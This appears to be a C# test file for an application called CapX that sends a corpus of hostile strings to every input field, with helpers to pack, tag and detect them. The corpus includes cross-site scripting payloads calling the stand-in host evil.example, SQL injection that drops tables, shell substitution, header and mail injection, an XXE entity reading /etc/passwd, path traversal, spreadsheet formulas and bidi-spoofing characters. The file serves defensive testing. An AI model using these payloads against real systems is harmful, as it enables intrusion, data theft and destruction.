using System.Text;
using System.Text.RegularExpressions;
using CapX.Data;

namespace CapX.Tests.Attacks;

/// <summary>A hostile string and the harm it does where code is careless. A unique mark replaces ZQ, so that the string can be found again.</summary>
public sealed record Attack(string Name, string Written, string Harm)
{
    /// <summary>The part that survives any cleaning of the string.</summary>
    public string Mark { get; init; } = "";

    public string Text => Written.Replace("ZQ", Mark, StringComparison.Ordinal);
}

/// <summary>The strings that are sent to every field. No field may refuse any of them for its content, because people may write about them.</summary>
public static partial class Corpus
{
    /// <summary>Every mark starts with these letters.</summary>
    public const string Sign = "zq";

    private static readonly Attack[] Strings =
    [
        // Markup
        new("script", "<script>ZQ()</script>", "runs in the reader's browser"),
        new("script of another host", "<SCRIPT SRC=//evil.example/ZQ></SCRIPT>", "the same, past a list of lower-case names"),
        new("image", "<img src=x onerror=ZQ()>", "runs, and asks another host"),
        new("svg", "<svg/onload=ZQ()>", "runs without a blank in the tag"),
        new("end of an attribute", "\" onfocus=ZQ() autofocus x=\"", "adds attributes to a field"),
        new("end of another attribute", "' onmouseover='ZQ()", "the same between single quotes"),
        new("end of a raw text", "</title></textarea></option></script><iframe src=ZQ>", "leaves the elements that hold text only"),
        new("end of a comment", "--><b>ZQ</b><!--", "leaves a comment, or hides the rest of the page"),
        new("comment of Blazor", "<!--Blazor:{\"type\":\"server\",\"x\":\"ZQ\"}-->", "starts a component that nobody put there"),
        new("entities", "&lt;b&gt;ZQ&#60;b&#62;&#x3c;b&#x3e;&quot;", "is markup once somebody decodes twice"),
        new("style", "<style>*{background:url(//evil.example/ZQ)}</style>", "restyles the page and asks another host"),
        new("refresh", "<meta http-equiv=refresh content=0;url=//evil.example/ZQ>", "leads away"),
        new("base", "<base href=//evil.example/ZQ>", "turns every link of the page"),
        new("form", "<form action=//evil.example><button>ZQ", "collects what the reader types"),
        new("link", "[ZQ](javascript:ZQ()) javascript:ZQ() data:text/html,ZQ", "runs where texts become links"),
        new("xml", "]]><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;ZQ", "breaks a feed, or reads a file"),
        new("utf-7", "+ADw-script+AD4-ZQ", "is markup to a browser that guesses the encoding"),
        new("separators of lines", "ZQ\u2028alert\u2029ZQ", "ends a string of a script"),
        // Bidi
        new("override", "\u202E\u202DZQ txt.exe", "shows what follows the other way round"),
        new("embedding", "\u202A\u202BZQ", "the same, to the end of the paragraph"),
        new("isolates left open", "\u2066\u2067\u2068ZQ", "takes the text after it into its own direction"),
        new("ends without a beginning", "\u202C\u2069\u2069\u2069ZQ", "closes what the page opened"),
        new("written from right to left", "שלום ZQ (1) -", "moves the brackets and numbers beside it, where it is not isolated"),
        // SQL
        new("end of a string in SQL", "'; DROP TABLE person; -- ZQ", "drops a table"),
        new("always true", "ZQ' OR '1'='1' UNION SELECT id FROM session #", "reads everything"),
        new("escaped quote", "\\' OR 1=1; DELETE FROM session; -- ZQ\\", "ends a string that was escaped by hand"),
        new("wildcards", "%_ZQ_%*?[a-z]", "matches everything, slowly"),
        // Templates and programs
        new("template", "{{ZQ}} {0} {1:D9} ${ZQ} $1 $2 $99 {{PLURAL:$1|a|b}}", "is filled in by whoever formats twice"),
        new("razor", "@ZQ @(ZQ) @{ ZQ } <%= ZQ %> #{ZQ} %s%n%x", "the same, in other languages"),
        new("wikitext", "{{subst:ZQ}} [[Category:ZQ]] ~~~~ <ref>ZQ</ref>", "acts in the sender's name on a talk page"),
        new("heading", "ZQ a\n== ZQ b ==\n{{ZQ c", "cuts a talk page in two"),
        new("shell", "$(ZQ) `ZQ` | ZQ; ZQ & ZQ", "runs a program"),
        new("prototype", "__proto__ constructor.prototype ZQ toString", "breaks what reads keys without asking"),
        new("json", "\",\"granted\":true,\"ZQ\":\"\\u0022", "adds a key to an answer"),
        // Files and headers
        new("formula", "=HYPERLINK(\"//evil.example/ZQ\")", "runs when a table is opened"),
        new("formulas", "+ZQ a\n-1+1|ZQ b!A1\n@SUM(ZQ)\n\tZQ=1", "the same, with other beginnings"),
        new("header", "ZQ\r\nSet-Cookie: zq=1\r\nX-Zq: ZQ", "adds a header to an answer or a mail"),
        new("encoded header", "ZQ%0d%0aX-Zq:%201%00%3Cb%3E", "the same, after decoding"),
        new("blind copy", "ZQ\nBcc: evil@example.org\nContent-Type: text/html", "sends a mail to others"),
        new("calendar", "ZQ\nEND:VEVENT\nBEGIN:VALARM\nATTACH:ZQ;X=1,2:3\\n", "adds an alarm to a calendar"),
        new("path", "../../etc/passwd\\..\\ZQ%2e%2e%2f", "reads a file"),
        new("address", "//evil.example/ZQ", "leads away where only the first slash is asked for"),
        // Odd Unicode
        new("control characters", "ZQ\u0001\u0008\u001B[31m\u007F\u0085\u009F", "colours a terminal, is no XML"),
        new("no characters", "\uFFFE\uFFFFZQ\uFDD0\uFEFF\uFFF9", "is refused by parsers, or turns the order of bytes"),
        new("astral", "ZQ😀👨\u200D👩\u200D👧\U000E0041\U000F0000", "is cut in half by who counts units"),
        new("heap of accents", "ZQo\u0302\u0323\u0301\u0308\u0340\u035C\u0316\u0301\u0302\u0308\u0301\u0302", "covers the lines above and below"),
        new("letters that fold", "ZQİıſßΣςK\u212B\uFDFAﬃ", "grows or shrinks when its case is changed"),
        // Pasted and typed text
        new("pasted link", "\u200Ehttps://example.org/ZQ\u200E", "is stored with what nobody sees, and leads nowhere"),
        new("digits of other scripts", "ZQ ٣٠ ۳۰ ३० ৩০ ๓๐ ３０ 𝟛𝟘 ١٠٠٬٠٠٠ 1\u202F000", "is no number to who knows ASCII only"),
        new("letters of other keyboards", "ZQ كتاب کتاب كتابة كتابه компʼютерна комп'ютерна O’Neil cœur ﬁn Ｃ＋＋", "is another word to who compares code points"),
        new("unseen letters", "\u3164\u115F\u2800ZQ\u00AD\u200B\u2060", "looks like another name, or like none"),
    ];

    public static IReadOnlyList<Attack> All { get; } = [.. Strings.Select((attack, number) => attack with { Mark = $"{Sign}{number:00}q" })];

    private static readonly (string Before, string Behind)[] Around =
        [("\u200E", "\u200E"), ("\u200F", ""), ("", "\u200E"), ("\u2066", "\u2069"), ("\u202A", "\u202C"), ("\uFEFF", "\u200B"), ("\u2060", "\u00AD"),
        ("\U000E0001", "\u200D")];

    /// <summary>Arabic, Persian, Devanagari, Bengali, Thai, full-width, Burmese, Khmer.</summary>
    private static readonly char[] Zeros = ['٠', '۰', '०', '০', '๐', '０', '၀', '០'];

    /// <summary>URLs for link fields. A field must refuse each one or turn it into a link that leads only to the web.</summary>
    public static readonly IReadOnlyList<string> Links =
    [
        "javascript:zq()", "JaVaScRiPt:zq()//a.b", "java\nscript:zq()", "\u0001javascript:zq()", "javascript://example.org/%0Azq()",
        "data:text/html,<script>zq</script>", "vbscript:zq", "file:///etc/zq",
        "mailto:zq@example.org", "ftp://example.org/zq", "//evil.example/zq", "/zq", "https:zq", "https://user:word@example.org/zq",
        "https://example.org@evil.example/zq", "https://localhost/zq", "http://[::1]/zq",
        "https://example.org/\"onclick=zq()><b>zq", "https://example.org/'onclick='zq", "https://example.org/zq\r\nX-Zq: 1", "https://exam\u202Eple.org/zq",
        "https://example.org/\u202Ezq", "https://ex\u0430mple.org/zq", "https://example.org/zq\uD800",
    ];

    /// <summary>A link as copied from a chat or a document: with invisible characters before and after it.</summary>
    public static IReadOnlyList<string> Pasted(string link) => [.. Around.Select(around => around.Before + link + around.Behind)];

    /// <summary>A number in the digits of other scripts.</summary>
    public static IReadOnlyList<string> Digits(int number) => [.. Zeros.Select(zero => string.Concat($"{number}".Select(c => (char)(zero + (c - '0')))))];

    /// <summary>A link that is longer than its field allows by 57 characters, as people paste it.</summary>
    public static string LongLink(int longest) => "https://example.org/" + Sign + new string('x', longest + 57 - 20 - Sign.Length);

    /// <summary>A text with the character that ends a string in C. The framework reads no form that contains it.</summary>
    public const string Nul = Sign + " before\0after";

    /// <summary>Longer than any field and than any text that an error message may repeat.</summary>
    public static string TooLong { get; } = Sign + new string('x', 70_000);

    /// <summary>One letter with one combining mark more than the limit, some above and some below it.</summary>
    public static string HeapOfMarks { get; } =
        Sign + " a" + string.Concat(Enumerable.Repeat("\u0301", MarkLimit.Most / 2)) + string.Concat(Enumerable.Repeat("\u0316", MarkLimit.Most / 2 + 1));

    /// <summary>All strings of the corpus in one text.</summary>
    public static string Whole { get; } = string.Join('\n', All.Select(a => a.Text));

    /// <summary>Part of every text sent to a place; it names that place.</summary>
    public static string Tag(string place) => $"{Sign}in-{place}-{Sign}";

    /// <summary>Distributes all strings over as few texts as a field of this length allows. Each text contains the tag of its place.</summary>
    public static IReadOnlyList<string> For(string place, int longest)
    {
        var texts = new List<string>();
        var text = new StringBuilder(Tag(place));
        foreach (var attack in All)
        {
            if (Length(text.ToString()) + Length(attack.Text) + 1 > longest)
            {
                texts.Add(text.ToString());
                text.Clear().Append(Tag(place));
            }
            text.Append('\n').Append(attack.Text);
        }
        return [.. texts, text.ToString()];
    }

    /// <summary>Invisible characters that affect the text around them. No page, file or table may contain one.</summary>
    public static bool IsHarmful(Rune rune) =>
        rune.Value is (< 0x20 and not ('\n' or '\r' or '\t')) or (>= 0x7F and < 0xA0) or (>= 0x202A and <= 0x202E) or (>= 0x2066 and <= 0x2069)
            or 0x2028 or 0x2029 or 0xFEFF or (>= 0xFFF9 and <= 0xFFFB) or (>= 0xFDD0 and <= 0xFDEF)
        || (rune.Value & 0xFFFE) == 0xFFFE;

    /// <summary>True if the text contains a part of the corpus. <see cref="Sign"/> alone does not count: random keys and tokens can contain it.</summary>
    public static bool Stands(string text) => Mark().IsMatch(text);

    [GeneratedRegex("zqin-|zq[0-9][0-9]q|zq[\"'<>(]|x-zq", RegexOptions.IgnoreCase)]
    private static partial Regex Mark();

    private static int Length(string text) => text.EnumerateRunes().Count();
}
